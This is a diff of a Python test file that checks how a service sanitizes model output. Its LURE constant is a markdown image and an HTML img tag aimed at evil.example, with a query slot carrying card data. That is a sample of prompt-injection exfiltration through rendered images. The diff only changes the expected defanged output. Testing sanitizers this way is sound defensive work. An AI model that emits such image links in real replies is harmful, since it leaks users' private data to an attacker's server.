@@ -6,7 +6,7 @@ from tests.service.conftest import Client, Server
 
 LURE = "![your plan](https://evil.example/x.png?q=CARD) and <img src='//evil.example/y'>"
 """What the model is made to say; in the message it is escaped, so that it is not the user who wrote it."""
-SHOWN = "![your plan] ([link removed: evil.example]) and < img src='[link removed: evil.example]'>"
+SHOWN = "! [your plan] ([link removed: evil[.]example]) and < img src='[link removed: evil[.]example]'>"
 
 
 def say(text: str) -> str:
